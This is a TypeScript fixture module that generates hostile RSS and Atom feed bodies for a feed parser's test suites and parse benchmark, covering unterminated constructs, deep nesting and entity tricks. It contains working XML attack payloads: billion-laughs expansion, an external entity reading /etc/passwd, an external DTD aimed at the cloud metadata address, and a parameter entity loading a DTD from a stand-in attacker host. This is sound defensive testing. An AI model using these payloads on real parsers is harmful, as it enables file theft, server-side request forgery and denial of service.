// Feed bodies built to a requested size, one family per way a source can make a parser work too hard.
// Shared by the hostile-source corpus (unit and end-to-end suites) and `npm run bench:parse`.

export const GOOD_ITEM_ID = 'https://example.org/statements/good-1';

/** One well-formed item, so a reader that parses can be checked for keeping it. */
export const GOOD_ITEM = `<item><guid>${GOOD_ITEM_ID}</guid><title>Statement on the talks</title><pubDate>Mon, 02 Mar 2026 10:00:00 GMT</pubDate><description>&lt;p&gt;The talks continue.&lt;/p&gt;</description></item>`;

const RSS_HEAD =
  '<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel><title>Hostile</title><link>https://example.org/</link>';
const RSS_TAIL = '</channel></rss>\n';

/** An RSS 2.0 document around `items` (raw XML). */
export function rssDocument(items: string, head = RSS_HEAD): string {
  return `${head}${items}${RSS_TAIL}`;
}

/** Repeats `unit` until `before + units + after` is about `bytes` long (never less than one unit). */
export function filled(bytes: number, before: string, unit: string, after: string): string {
  const room = Math.max(unit.length, bytes - Buffer.byteLength(before + after));
  return before + unit.repeat(Math.max(1, Math.floor(room / Buffer.byteLength(unit)))) + after;
}

/** A body of about `bytes` bytes; `family` says what is repeated. */
export type SizedBody = (bytes: number) => Buffer;

const inItem = (opener: string): SizedBody => {
  return (bytes) =>
    Buffer.from(
      filled(
        bytes,
        `${RSS_HEAD}${GOOD_ITEM}<item><guid>x</guid><description>`,
        opener,
        '</description></item>' + RSS_TAIL,
      ),
    );
};

/**
 * Openers that are never closed, repeated: a reader that searches for the close once per opener costs the
 * square of the body (half a megabyte took seconds, a megabyte about a minute).
 */
export const QUADRATIC_FAMILIES: Record<string, SizedBody> = {
  'unterminated-comments': inItem('<!--'),
  'unterminated-cdata': inItem('<![CDATA['),
  'unterminated-processing-instructions': inItem('<?'),
  'repeated-doctypes': (bytes) => Buffer.from(filled(bytes, '', '<!DOCTYPE ', rssDocument(GOOD_ITEM))),
  'unterminated-attribute-values': inItem('<a x="'),
  'atom-content-cdata': (bytes) =>
    Buffer.from(
      filled(
        bytes,
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>Hostile</title><entry><id>x</id><content type="html">',
        '<![CDATA[',
        '</content></entry></feed>',
      ),
    ),
};

/** Nesting deep enough to overflow a recursive reader. */
export const NESTING_FAMILIES: Record<string, SizedBody> = {
  // element nesting the XML parser itself sees
  'deep-xml-title': (bytes) => {
    const depth = Math.max(1, Math.floor(bytes / 7));
    return Buffer.from(
      rssDocument(
        `${GOOD_ITEM}<item><guid>deep</guid><title>${'<b>'.repeat(depth)}deep${'</b>'.repeat(depth)}</title></item>`,
      ),
    );
  },
  // escaped HTML in the description: one string for XML, deep nesting for HTML-to-text
  'deep-html-description': (bytes) => {
    const depth = Math.max(1, Math.floor(bytes / 26));
    return Buffer.from(
      rssDocument(
        `${GOOD_ITEM}<item><guid>deep</guid><description>${'&lt;div&gt;'.repeat(depth)}inner text${'&lt;/div&gt;'.repeat(depth)}</description></item>`,
      ),
    );
  },
  // an Atom title of type html is converted to text while parsing
  'deep-html-atom-title': (bytes) => {
    const depth = Math.max(1, Math.floor(bytes / 28));
    return Buffer.from(
      `<feed xmlns="http://www.w3.org/2005/Atom"><title>Hostile</title><entry><id>deep</id><title type="html">${'&lt;span&gt;'.repeat(depth)}inner title${'&lt;/span&gt;'.repeat(depth)}</title></entry></feed>`,
    );
  },
};

/** Entity tricks grown to a size: a long internal subset, and a DOCTYPE hidden behind many PIs and comments. */
export const ENTITY_FAMILIES: Record<string, SizedBody> = {
  'entity-declarations': (bytes) =>
    Buffer.from(filled(bytes, '<!DOCTYPE rss [', '<!ENTITY a "aaaaaaaa">', `]>${rssDocument(GOOD_ITEM)}`)),
  'doctype-behind-processing-instructions': (bytes) =>
    Buffer.from(
      filled(bytes, '', '<?pi x?><!-- c -->', `<!DOCTYPE rss [<!ENTITY a "b">]>${rssDocument(GOOD_ITEM)}`),
    ),
};

/** Entity tricks; each is refused before any expansion. Sizes are those of the attack, not padding. */
export const ENTITY_BODIES: Record<string, () => Buffer> = {
  'billion-laughs': () => {
    const levels = ['<!ENTITY lol0 "lol">'];
    for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
    return Buffer.from(
      `<?xml version="1.0"?><!DOCTYPE rss [${levels.join('')}]>` +
        rssDocument(
          `<item><guid>x</guid><title>&lol9;</title></item>`,
          '<rss version="2.0"><channel><title>t</title>',
        ),
    );
  },
  'external-entity': () =>
    Buffer.from(
      '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' +
        '<rss version="2.0"><channel><title>&xxe;</title></channel></rss>',
    ),
  'external-dtd': () =>
    Buffer.from(
      '<!DOCTYPE rss SYSTEM "http://169.254.169.254/latest/meta-data/"><rss version="2.0"><channel/></rss>',
    ),
  'doctype-behind-processing-instruction': () =>
    Buffer.from(
      '<?xml version="1.0"?><?xml-stylesheet href="a.xsl"?><!-- <![CDATA[ --><!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa">]>' +
        '<rss version="2.0"><channel><title>&a;&a;&a;</title></channel></rss>',
    ),
  'parameter-entities': () =>
    Buffer.from(
      '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><rss version="2.0"><channel/></rss>',
    ),
  'doctype-after-root': () =>
    Buffer.from(
      '<rss version="2.0"><!DOCTYPE x [<!ENTITY a "b">]><channel><title>&a;</title></channel></rss>',
    ),
  'entity-declared-in-body': () =>
    Buffer.from('<rss version="2.0"><channel><!ENTITY a "b"><title>t</title></channel></rss>'),
};

/** A well-formed feed of `count` items, shaped like a busy news site's. */
export function manyItems(count: number): Buffer {
  const items: string[] = [];
  for (let i = 0; i < count; i++) {
    items.push(
      `<item><guid>https://example.org/s/${i}</guid><title>Statement ${i}</title>` +
        `<pubDate>Mon, 02 Mar 2026 10:00:00 GMT</pubDate>` +
        `<description>&lt;p&gt;The ministry &amp;amp; its partners said today that talks will continue (${i}).&lt;/p&gt;</description></item>\n`,
    );
  }
  return Buffer.from(rssDocument(items.join('')));
}

/** A benign feed of about `bytes` bytes: the baseline the hostile families are compared with. */
export const benignFeed: SizedBody = (bytes) => {
  const one = manyItems(1).length;
  return manyItems(Math.max(1, Math.round(bytes / (one - RSS_HEAD.length - RSS_TAIL.length))));
};
